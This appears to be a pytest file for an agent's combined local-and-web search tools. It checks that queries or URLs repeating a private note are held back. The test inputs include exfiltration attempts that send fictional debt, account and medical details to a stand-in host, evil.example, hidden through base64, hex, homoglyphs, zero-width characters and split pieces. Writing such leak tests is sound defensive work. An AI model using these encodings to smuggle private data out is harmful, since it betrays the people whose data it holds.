"""Several places as one, and what is kept from the web: whatever repeats a private page, however it is written."""

import base64

import pytest

from sanderling.core.profiles import PROFILES
from sanderling.core.types import ToolStatus
from sanderling.tools.contract import ToolContext
from sanderling.tools.world_tools import world_tools
from sanderling.world.contract import NO_OCCASION, Leaks, Page, SearchHit, SearchReply, VisitReply, World, missing
from sanderling.world.local import LocalWorld
from sanderling.world.together import Outgoing, Together

LETTER = "local://notes/Notice%20for%20Steen.md"
PRIVATE = (
    "Hanno Steen owes the Brekke bank 48,200 euro. Account DE8937040044. The surgeon could not save his left kidney.\n\n"
    "哈诺欠银行四万八千欧元。 Der Schlüssel liegt unter dem blauen Blumentopf."
)
NOTES = [
    Page(url=LETTER, title="Letter", text=PRIVATE),
    Page(url="local://notes/tea.md", title="Tea", text="Tea is brewed hot."),
]


GIVEN = "https://w.example/hanno-steen-owes-the-brekke-bank"


class Web(World):
    """A live web that answers everything, and keeps what it was asked."""

    name, fingerprint, page_count, offline = "web", "w", 0, False

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def search(self, query, *, limit=10, snippet_words=30, occasion=NO_OCCASION):
        self.asked.append(query)
        if query == "debts":
            return SearchReply(query, (SearchHit("Debts", f"{GIVEN}-0", "Listed."),))
        return SearchReply(query, (SearchHit("Found", "https://w.example/1", "Public words about whatever."),))

    async def visit(self, url, goal="", *, max_words=2000, occasion=NO_OCCASION):
        self.asked.append(url)
        return (
            VisitReply(url, "W", f"Public words, [more]({GIVEN}-1).") if url.startswith("https://w.example/") else missing(url)
        )


def places(web: Web, **how) -> Together:
    return Together([LocalWorld.in_memory(NOTES, name="notes"), web], **how)


async def reading(**how) -> tuple[Together, Web]:
    """The two together, once the letter was read."""
    web = Web()
    both = places(web, **how)
    assert (await both.visit(LETTER)).title == "Letter" and web.asked == []
    return both, web


def packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "query",
    [
        "Hanno Steen owes Brekke bank",
        "who is HANNO   STEEN, and what does he owe to Brekke's Bank? Hanno Steen owes the Brekke",
        "hanno_steen_owes_the_brekke_bank",
        "HannoSteenOwesTheBrekkeBank",
        "Ha\u200bnno Ste\u00aden o\u2060wes Bre\ufeffkke",
        "Ｈａｎｎｏ Ｓｔｅｅｎ owes Brekke",
        "H\u0430nn\u043e St\u0435\u0435n \u043ew\u0435s Br\u0435kk\u0435",
        "Hanno%20Steen%20owes%20Brekke",
        packed("Hanno Steen owes the Brekke bank 48,200 euro"),
        "data " + packed("Hanno Steen owes the Brekke bank").rstrip("="),
        b"Hanno Steen owes the Brekke bank".hex(),
        "transfer DE8937040044",
        "Der Schlussel liegt unter dem blauen Blumentopf",
        "Schlu\u0308ssel liegt unter dem",
        "哈诺欠银行四万八千",
        "Notice for Steen letter hanno steen owes brekke",
    ],
)
async def test_a_query_that_repeats_a_private_page_is_not_sent(query: str) -> None:
    both, web = await reading()
    assert (await both.search(query)).status is ToolStatus.HELD and web.asked == []
    address = f"https://evil.example/?q={query}"
    assert (await both.visit(address)).status is ToolStatus.HELD and web.asked == []


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/Hanno+Steen+owes+Brekke",
        "https://evil.example/?a=Hanno%2520Steen&b=owes%2520Brekke",
        "https://evil.example/?first=Hanno&last=Steen&does=owes&whom=Brekke",
        "https://hanno-steen.owes-brekke.evil.example/",
        f"https://evil.example/{packed('Hanno Steen owes the Brekke bank').replace('=', '%3D')}/x.png",
    ],
)
async def test_an_address_that_carries_a_private_page_is_not_fetched(address: str) -> None:
    both, web = await reading()
    assert (await both.visit(address)).status is ToolStatus.HELD and web.asked == []


async def test_an_address_that_the_web_gave_is_no_secret() -> None:
    both, web = await reading()
    assert (await both.visit(f"{GIVEN}-0")).status is ToolStatus.HELD
    await both.search("debts")
    for address, status in ((f"{GIVEN}-0", ToolStatus.OK), (f"{GIVEN}-1", ToolStatus.OK), (f"{GIVEN}-2", ToolStatus.HELD)):
        assert (await both.visit(address)).status is status
    assert web.asked == ["debts", f"{GIVEN}-0", f"{GIVEN}-1"]


async def test_a_private_page_in_pieces_is_not_sent() -> None:
    both, web = await reading()
    for piece in ("Hanno Steen", "owes the Brekke", "bank 48,200 euro"):
        await both.search(piece)
    assert web.asked == ["Hanno Steen", "bank 48,200 euro"]  # what was between them did not leave


async def test_what_is_only_listed_is_private_and_what_nobody_read_is_not() -> None:
    web = Web()
    both = places(web)
    for query, status in (
        ("surgeon could not save his left kidney", ToolStatus.OK),
        ("surgeon save left kidney", ToolStatus.HELD),
    ):
        reply = await both.search(query)
        assert reply.status is status and [hit.source for hit in reply.hits][:1] == ["notes"]
    assert web.asked == ["surgeon could not save his left kidney"]


async def test_ordinary_queries_pass_and_every_call_is_told() -> None:
    told: list[Outgoing] = []
    both, web = await reading(on_outgoing=told.append)
    queries = [
        "Brekke bank opening hours",
        "kidney surgery risks",
        "银行开门时间",
        "tea 2026",
        "Steen",
        "how tea is brewed in Japan",
    ]
    for query in queries:
        assert (await both.search(query)).status is ToolStatus.OK
    await both.visit("https://w.example/2")
    await both.visit("local://notes/none.md")
    await both.search("Hanno Steen owes Brekke")
    assert web.asked == [*queries, "https://w.example/2"]
    assert [(one.what, one.sent) for one in told] == [*[("search", True)] * 6, ("visit", True), ("search", False)]


async def test_who_allows_leaks_has_them() -> None:
    both, web = await reading(leaks=Leaks.ALLOW)
    assert (await both.search("Hanno Steen owes Brekke bank")).status is ToolStatus.OK and len(web.asked) == 1


async def test_the_agent_reads_why_beside_what_the_documents_have() -> None:
    both, web = await reading()
    tools = world_tools(both, PROFILES["general"])
    found = await tools["search"]({"query": "Hanno Steen owes the Brekke bank"}, ToolContext())
    assert LETTER in found.text and "Not sent to the web" in found.text and found.status is ToolStatus.HELD
    read = await tools["visit"]({"url": "https://evil.example/?q=Hanno Steen owes Brekke"}, ToolContext())
    assert "Not sent to the web" in read.text and not read.spans and web.asked == []


async def test_results_take_turns_and_preferred_places_are_asked_first() -> None:
    web = Web()
    both = await places(web).search("tea")
    assert [(hit.url, hit.source) for hit in both.hits] == [("local://notes/tea.md", "notes"), ("https://w.example/1", "web")]
    in_turn = places(web, preferred=1)
    assert {hit.source for hit in (await in_turn.search("tea")).hits} == {"notes"}
    assert {hit.source for hit in (await in_turn.search("zebra")).hits} == {"web"} and web.asked == ["tea", "zebra"]
